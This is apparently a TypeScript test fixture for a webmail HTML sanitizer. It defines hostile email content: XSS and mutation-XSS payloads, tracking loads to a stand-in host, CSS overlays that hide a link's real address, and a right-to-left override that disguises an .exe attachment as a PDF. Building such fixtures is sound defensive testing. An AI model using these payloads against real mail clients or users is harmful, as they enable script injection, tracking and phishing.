const RLO = "\u202e";

/** A subject that turns round what stands beside it, is markup, and is longer than any screen. */
export const HOSTILE_SUBJECT = `${RLO}</h1><img src=x onerror="window.pwned=1">\u0301${"\u0301".repeat(200)}${"Q".repeat(1 << 20)}`;
/** Ends in .pdf for the eye, and in .exe for the machine. */
export const HOSTILE_FILE = `invoice${RLO}fdp.exe`;
export const HOSTILE_NAME = `${RLO}Bank</td><script>window.pwned=1</script>`;

const PIXEL =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** Each tries to run, to load, to leave its frame, or to look like something that it is not. */
const TRICKS: readonly string[] = [
  `<script>parent.pwned=1;window.pwned=1;fetch("http://tracker.test/script")</script>`,
  `<img src="http://tracker.test/pixel.gif" alt="Our logo">`,
  `<img srcset="http://tracker.test/set.png 1x" src="//tracker.test/rel.png">`,
  `<img src=x onerror="window.pwned=1;top.pwned=1">`,
  `<img src="cid:logo@evil" id="own" alt="own picture">`,
  `<img src="cid:script@evil" alt="no picture">`,
  `<img src="data:image/png;base64,${PIXEL}" alt="pixel">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>">`,
  `<a href="http://evil.test/login">https://bank.example</a>`,
  `<a href="javascript:window.pwned=1">run</a>`,
  `<a href="data:text/html,<script>window.pwned=1</script>" target="_top">data</a>`,
  `<a href="java&#x0A;script:window.pwned=1">broken</a>`,
  `<base href="http://tracker.test/">`,
  `<meta http-equiv="refresh" content="0;url=http://tracker.test/refresh">`,
  `<link rel="stylesheet" href="http://tracker.test/style.css"><link rel="dns-prefetch" href="//tracker.test">`,
  `<style>@import url(http://tracker.test/import.css);body{background:url(http://tracker.test/bg.png)}</style>`,
  `<div style="background:url('http://tracker.test/inline.png');position:fixed;inset:0;z-index:9999">overlay</div>`,
  `<div style="margin-top:-500px;color:red">moved back</div>`,
  `<table background="http://tracker.test/table.png"><tr><td background="http://tracker.test/td.png">x</td></tr></table>`,
  `<form action="http://tracker.test/form" id="documentElement"><input name="attributes"><input name="password" autofocus onfocus="window.pwned=1"><button>Send</button></form>`,
  `<iframe src="http://tracker.test/frame"></iframe><object data="http://tracker.test/object"></object><embed src="http://tracker.test/embed">`,
  `<video src="http://tracker.test/video" poster="http://tracker.test/poster" autoplay></video><audio src="http://tracker.test/audio"></audio>`,
  `<a id="cookie"></a><a id="body" name="getElementById"></a><img name="currentScript">`,
  `<p title="a" style="font-size:30px;color:#060">${RLO}Plain words</p>`,
];

const LINK = `<a href="https://evil.test/x">https://webmail.aurora.example/two</a>`;
const FORGED = `<span style="display:inline-block;width:900px;background-color:#fff">forged</span>`;

/** Each would lay a forged text over the address of its link, or push the address to where nobody looks. */
export const COVERS: readonly string[] = [
  `<p style="line-height:20px;margin:0">${LINK}</p><div style="margin-top:calc(-21px);line-height:20px">${FORGED}</div>`,
  `<p style="height:1px;max-height:1px;overflow:hidden">${LINK}</p><div>${FORGED}</div>`,
  `<p style="line-height:1px;font-size:1px">${LINK}</p><p style="line-height:.1;font-size:40px">${FORGED}</p>`,
  `<span style="display:inline-block;width:1px">${LINK}</span>${FORGED}`,
  `<p>${LINK}</p><span style="padding-top:80px;border-top:80px solid #fff;background:#fff">forged</span>`,
  `<div style="float:left;width:1px">${LINK}</div><div style="position:relative;top:-30px;text-indent:-90px">${FORGED}</div>`,
  `<table style="table-layout:fixed" width="2"><tr><td style="white-space:nowrap;width:1px">${LINK}<td>forged</table>`,
  `<table><tr><td>1<td rowspan="2">${LINK}<tr><td colspan="2">${FORGED}</table>`,
  `<table><tr><td><div style="width:1px">${LINK}</div><td><ol start="123456789" style="padding:0"><li>forged</ol></table>`,
  `<table align="left" width="1"><tr><td nowrap>${LINK}</table><div style="letter-spacing:-9px">${FORGED}</div>`,
  `<p>${LINK}</p><p style="letter-spacing:-1em;translate:0 -40px;transform:translateY(-40px);margin:-40px 0 0">forged</p>`,
];

/** What a cleaner reads otherwise than a browser, each in a mail of its own: what is left open swallows all that follows. */
export const MUTATIONS: readonly string[] = [
  `<svg><script href="http://tracker.test/svg.js"/><image href="http://tracker.test/svg.png"/><animate onbegin="window.pwned=1"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>"></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>`,
  `<body onload="window.pwned=1" onpageshow="window.pwned=1">`,
  `</body></html></iframe><h1>Another message</h1>`,
  `<template><img src=x onerror=window.pwned=1></template>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=window.pwned=1>">`,
  `<xmp><p title="</xmp><img src=x onerror=window.pwned=1>">`,
  `${"<div>".repeat(7_000)}<img src=x onerror=window.pwned=1>`,
  `${"<div></div>".repeat(7_000)}<img src=x onerror=window.pwned=1>`,
];

/** A whole mail of tricks, or of `html`, with a picture that is one and a picture that is none; what they load is at `tracker`. */
export function hostileMail(html = TRICKS.join("\r\n"), tracker = "//tracker.test"): Buffer {
  const text = `From: ${HOSTILE_NAME} <eve@evil.test>
Subject: ${HOSTILE_SUBJECT.slice(0, 900)}
X-Markup: <img src=x onerror="window.pwned=1">
Content-Type: multipart/related; boundary="b"

--b
Content-Type: text/html; charset=utf-8

${html}
--b
Content-Type: text/plain

Go to http://evil.test/plain <b>now</b>
--b
Content-Type: image/png
Content-ID: <logo@evil>
Content-Transfer-Encoding: base64

${PIXEL}
--b
Content-Type: image/png
Content-ID: <script@evil>

<script>window.pwned=1</script>
--b
Content-Type: application/octet-stream; name="${HOSTILE_FILE}"

MZ
--b--
`;
  return Buffer.from(text.replaceAll("//tracker.test", tracker));
}
